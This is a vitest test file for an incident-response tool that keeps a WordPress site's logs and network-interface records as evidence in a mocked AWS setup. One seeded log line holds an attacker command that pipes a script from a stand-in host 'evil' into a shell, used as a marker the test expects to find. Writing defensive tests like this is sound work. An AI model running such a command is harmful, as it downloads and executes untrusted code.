import { BackupClient } from '@aws-sdk/client-backup';
import { CloudWatchLogsClient } from '@aws-sdk/client-cloudwatch-logs';
import { EC2Client } from '@aws-sdk/client-ec2';
import { ECSClient } from '@aws-sdk/client-ecs';
import { GetObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { SSMClient } from '@aws-sdk/client-ssm';
import { afterEach, describe, expect, it } from 'vitest';
import { type EvidenceDeps, keepEvidence } from '../../runtime/incident/evidence';
import type { IncidentRecord } from '../../runtime/shared/incident-store';
import { loadSiteRecord } from '../../runtime/shared/site-records';
import { type ResponseWorld, setUpResponseWorld } from '../support/response-world';

/**
 * The evidence of an incident, kept by the real `keepEvidence` against the AWS model: what is
 * kept of the site's logs around the detection, and what the manifest says about it.
 */
let world: ResponseWorld;
afterEach(() => world?.aws.restore());

const MINUTE = 60_000;

function deps(overrides: Partial<EvidenceDeps> = {}): EvidenceDeps {
  return {
    ecs: new ECSClient({}),
    ec2: new EC2Client({}),
    logs: new CloudWatchLogsClient({}),
    s3: new S3Client({}),
    backup: new BackupClient({}),
    evidenceBucket: world.fleet.evidenceBucket,
    backupVaultName: world.fleet.backupVaultName,
    backupRoleArn: `arn:aws:iam::${world.aws.accountId}:role/bulkhead-backup`,
    now: () => world.aws.clock.date(),
    ...overrides,
  };
}

function incidentDetectedAt(detectedAt: number): IncidentRecord {
  return {
    incidentId: `acme-${detectedAt}`,
    site: 'acme',
    environment: 'test',
    status: 'CONTAINED',
    policy: 'contain',
    drill: false,
    detectedAt: new Date(detectedAt).toISOString(),
    receivedAt: new Date(detectedAt + 5_000).toISOString(),
    steps: [],
    firstTrigger: 'finding#x',
  };
}

/** Empties the site's log group (the seed writes a few lines per task). */
function quietLogGroup() {
  const group = world.aws.logs.state.groups[world.site('acme').logGroupName];
  if (group) group.streams = {};
}

/** `perSecond` lines a second in two streams from `from` up to and including `to`. */
function busyLogs(from: number, to: number, perSecond: number, label: string) {
  const logGroup = world.site('acme').logGroupName;
  for (let second = from; second <= to; second += 1000) {
    const events = Array.from({ length: perSecond }, (_, i) => ({
      timestamp: second + i,
      message: `[acme] 10.40.0.10 - - "GET /?${label}=${second + i} HTTP/1.1" 200 5123`,
    }));
    world.aws.logs.seedEvents(logGroup, 'wordpress/wordpress/a', events.slice(0, Math.ceil(perSecond / 2)));
    world.aws.logs.seedEvents(logGroup, 'wordpress/wordpress/b', events.slice(Math.ceil(perSecond / 2)));
  }
}

async function readEvidence(incidentId: string, name: string): Promise<Record<string, unknown>> {
  const object = await new S3Client({}).send(
    new GetObjectCommand({ Bucket: world.fleet.evidenceBucket, Key: `incidents/${incidentId}/${name}` }),
  );
  return JSON.parse((await object.Body?.transformToString()) ?? '{}') as Record<string, unknown>;
}

interface LogPart {
  kept: number;
  first?: string;
  last?: string;
  truncated: boolean;
  notKept?: string;
}

describe('the site’s logs around the detection', () => {
  it('a busy site (5 lines a second for the hour before): the lines just before the detection are kept, and the manifest says what was kept', async () => {
    // Prepare: a busy hour, the attacker's line 7 s before the detection, and lines after it
    world = setUpResponseWorld([{ id: 'acme', cell: 'c1' }]);
    quietLogGroup();
    const now = world.aws.clock.now();
    const detectedAt = now - 2 * MINUTE;
    busyLogs(detectedAt - 60 * MINUTE, detectedAt - 1000, 5, 'before');
    world.aws.logs.seedEvents(world.site('acme').logGroupName, 'wordpress/wordpress/a', [
      { timestamp: detectedAt - 7_000, message: '[acme] POST /wp-content/plugins/x/upload.php sh -c "curl evil | sh"' },
    ]);
    busyLogs(detectedAt + 1000, now, 1, 'after');
    const site = await loadSiteRecord(new SSMClient({}), 'test', 'acme');
    const incident = incidentDetectedAt(detectedAt);

    // Act
    const result = await keepEvidence(deps(), incident, [], site);

    // Assess: the whole hour and the minutes after the detection, in time order
    const logs = (await readEvidence(incident.incidentId, 'logs.json')) as {
      events: { timestamp: number; message: string }[];
    };
    const messages = logs.events.map((e) => e.message);
    expect(messages.some((m) => m.includes('curl evil'))).toBe(true);
    expect(logs.events).toHaveLength(5 * 3600 + 1 + 120);
    const timestamps = logs.events.map((e) => e.timestamp);
    expect(timestamps).toEqual([...timestamps].sort((a, b) => a - b));
    expect(timestamps[0]).toBe(detectedAt - 60 * MINUTE);
    expect(timestamps.at(-1)).toBe(now);
    const manifest = (await readEvidence(incident.incidentId, 'manifest.json')) as {
      logs: { before: LogPart; after: LogPart; kept: number; truncated: boolean };
    };
    expect(manifest.logs).toMatchObject({
      kept: 5 * 3600 + 1 + 120,
      truncated: false,
      before: {
        kept: 5 * 3600 + 1,
        first: new Date(detectedAt - 60 * MINUTE).toISOString(),
        last: new Date(detectedAt - 1000 + 4).toISOString(),
        truncated: false,
      },
      after: { kept: 120, first: new Date(detectedAt + 1000).toISOString(), last: new Date(now).toISOString() },
    });
    expect(result.gaps).toEqual([]);
  });

  it('when the logs must be cut, the cut is far from the detection: the oldest lines go, and the manifest says where it cut', async () => {
    // Prepare: more lines than the budget on both sides of the detection
    world = setUpResponseWorld([{ id: 'acme', cell: 'c1' }]);
    quietLogGroup();
    const now = world.aws.clock.now();
    const detectedAt = now - 5 * MINUTE;
    busyLogs(detectedAt - 30 * MINUTE, detectedAt, 4, 'before');
    busyLogs(detectedAt + 1000, now, 4, 'after');
    const site = await loadSiteRecord(new SSMClient({}), 'test', 'acme');
    const incident = incidentDetectedAt(detectedAt);

    // Act
    await keepEvidence(deps({ logBudget: { before: 1000, after: 600, bytes: 10_000_000 } }), incident, [], site);

    // Assess: the 1000 lines up to the detection and the 600 right after it
    const logs = (await readEvidence(incident.incidentId, 'logs.json')) as { events: { timestamp: number }[] };
    const timestamps = logs.events.map((e) => e.timestamp);
    expect(timestamps).toHaveLength(1600);
    expect(timestamps).toEqual([...timestamps].sort((a, b) => a - b));
    const before = timestamps.filter((t) => t <= detectedAt);
    const after = timestamps.filter((t) => t > detectedAt);
    expect(before.at(-1)).toBe(detectedAt); // the line at the detection itself
    expect(before).toHaveLength(1000);
    expect(after[0]).toBe(detectedAt + 1); // the next line
    expect(after).toHaveLength(600);
    const manifest = (await readEvidence(incident.incidentId, 'manifest.json')) as {
      logs: { before: LogPart; after: LogPart; kept: number; truncated: boolean };
    };
    expect(manifest.logs.truncated).toBe(true);
    expect(manifest.logs.kept).toBe(1600);
    expect(manifest.logs.before).toMatchObject({
      kept: 1000,
      truncated: true,
      first: new Date(before[0] as number).toISOString(),
      last: new Date(detectedAt).toISOString(),
      notKept: expect.stringContaining(new Date(detectedAt - 60 * MINUTE).toISOString()), // the window starts an hour before
    });
    expect(manifest.logs.after).toMatchObject({
      kept: 600,
      truncated: true,
      first: new Date(detectedAt + 1).toISOString(),
      last: new Date(after.at(-1) as number).toISOString(),
      notKept: expect.stringContaining(new Date(now).toISOString()),
    });
  });
});

describe('the network interfaces of the contained tasks', () => {
  it('one interface is already gone (its task stopped meanwhile): the others are still kept, read page by page', async () => {
    // Prepare: five tasks; one task's interface deleted; EC2 answers two interfaces a page
    world = setUpResponseWorld([{ id: 'acme', cell: 'c1', desiredCount: 5 }]);
    const tasks = world.aws.ecs.runningTasks(world.site('acme').serviceArn);
    const gone = tasks[0]?.networkInterfaceId ?? '';
    world.aws.ec2.deleteNetworkInterface(gone);
    world.aws.ec2.pageLimit = 2;
    const site = await loadSiteRecord(new SSMClient({}), 'test', 'acme');
    const incident = incidentDetectedAt(world.aws.clock.now() - MINUTE);

    // Act
    const result = await keepEvidence(deps(), incident, [], site);

    // Assess
    const kept = (await readEvidence(incident.incidentId, 'network-interfaces.json')) as {
      NetworkInterfaces: { NetworkInterfaceId: string }[];
    };
    expect(kept.NetworkInterfaces.map((n) => n.NetworkInterfaceId).sort()).toEqual(
      tasks
        .slice(1)
        .map((t) => t.networkInterfaceId)
        .sort(),
    );
    expect(result.gaps).toEqual([`network-interfaces: ${gone} no longer exists`]);
    const calls = world.aws.callsTo('EC2', 'DescribeNetworkInterfaces');
    expect(calls.length).toBeGreaterThan(1);
    expect(calls.every((c) => (c.input as { MaxResults?: number }).MaxResults !== undefined)).toBe(true);
  });
});
